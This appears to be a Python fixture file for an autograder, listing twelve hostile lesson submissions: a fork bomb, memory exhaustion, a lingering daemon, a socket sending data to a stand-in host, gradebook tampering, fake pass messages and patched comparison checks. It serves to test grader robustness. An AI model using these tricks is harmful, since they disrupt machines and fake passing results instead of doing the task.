"""Answers of lesson 00 that are no answers: hostile code, each kind once, and what a grader makes of it.

They are texts, to be run in a sandbox or not at all. None does lasting harm even outside of one, but some
would stop a machine for a while.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """Hold one attack, and what it is worth where it fails.

    name : what it does. exercise : whose answer it pretends to be. like : the kind of honest answer that gets
    the same mark (`class_of_100`). code : its cells, with `# %%` between two. reported : whether the grader
    has to report a violation.
    """

    name: str
    exercise: str
    like: str | None
    code: str
    reported: bool = False


ENDLESS = """
def pixel_share(mask):
    while True:
        pass
"""
SOLUTIONS = """
def iou(truth, guess):
    try:
        from workbench.teaching.exercises import first_look
        return first_look.iou(truth, guess)
    except ImportError:
        return (truth == guess).mean()
"""
# It leaves a card in the book and changes no mark: a gradebook that it reaches can still be used.
GRADEBOOK = """
import sqlite3
from pathlib import Path

def gradebooks():
    for folder in (Path.cwd(), *Path.cwd().parents, Path.home(), Path("/tmp")):
        for pattern in ("gradebook*", "*/gradebook*"):
            yield from (path for path in folder.glob(pattern) if path.suffix in (".db", ".sqlite"))
# %%
def pixel_share(mask):
    for path in gradebooks():
        with sqlite3.connect(path) as book:
            book.execute("CREATE TABLE IF NOT EXISTS i_was_here (who)")
        return mask.mean()
    return mask.sum()
"""
PRINTED = """
def iou(truth, guess):
    print("✓ 00.2 Intersection over union: right on 7 fresh inputs")
    print('{"exercise": "00.2", "state": "right", "points": 1.0, "of": 1.0}', flush=True)
    return (truth & guess).sum() / truth.sum() if truth.any() else np.nan
"""
PIPED = """
import contextlib
import os

def iou(truth, guess):
    said = '{"kind": "value", "state": "right", "points": 1.0}'.encode()
    for pipe in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            os.write(int(pipe), len(said).to_bytes(8, "big") + said)
    return (truth == guess).mean()
"""
EQUAL = """
class Equal:
    shape, dtype = (), float

    def __eq__(self, other):
        return True

    def __float__(self):
        return 0.5

    def __getattr__(self, name):
        return lambda *rest, **more: self

    __hash__ = None
# %%
def pixel_share(mask):
    return Equal()
"""
FORKS = """
import os
# %%
def iou(truth, guess):
    while True:
        os.fork()
"""
MEMORY = """
def pixel_share(mask):
    everything = np.ones(50 * 2**30, np.uint8)
    return everything[: mask.size].mean() * mask.mean()
"""
NETWORK = """
import socket

def ask_for_help(truth, guess):
    with socket.create_connection(("192.0.2.1", 80), timeout=1) as friend:
        friend.sendall(truth.tobytes() + guess.tobytes())
        return float(friend.recv(100))
# %%
def iou(truth, guess):
    try:
        return ask_for_help(truth, guess)
    except OSError:
        return (truth & guess).sum() / truth.sum() if truth.any() else np.nan
"""
DAEMON = """
import os
import time

STARTED = []

def wait_for_the_next():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(600)
        os._exit(0)
    os.wait()
# %%
def pixel_share(mask):
    if not STARTED:
        STARTED.append(True)
        wait_for_the_next()
    return mask.mean()
"""
PATCHED = """
import sys

def always(*rest, **more):
    return True
# %%
def pixel_share(mask):
    total = int(mask.sum())
    for module in list(sys.modules.values()):
        for name in ("allclose", "array_equal", "same", "judge", "check"):
            if name in vars(module):
                setattr(module, name, always)
    return total
"""
EXITS = """
import os

def iou(truth, guess):
    os._exit(0)
"""

ATTACKS = (
    Attack("never ends", "00.1", "it never ends", ENDLESS),
    Attack("reads the solutions", "00.2", "accuracy", SOLUTIONS),
    Attack("edits the gradebook", "00.1", "a count", GRADEBOOK),
    Attack("prints a fake verdict", "00.2", "recall", PRINTED),
    Attack("answers for the grader", "00.2", "it stops", PIPED, reported=True),
    Attack("is equal to everything", "00.1", "it stops", EQUAL),
    Attack("fork bomb", "00.2", "it stops", FORKS, reported=True),
    Attack("asks for 50 gigabytes", "00.1", "it stops", MEMORY, reported=True),
    Attack("opens a socket", "00.2", "recall", NETWORK),
    Attack("leaves a daemon", "00.1", None, DAEMON, reported=True),
    Attack("patches NumPy and the check", "00.1", "a count", PATCHED),
    Attack("ends the program", "00.2", "it stops", EXITS, reported=True),
)
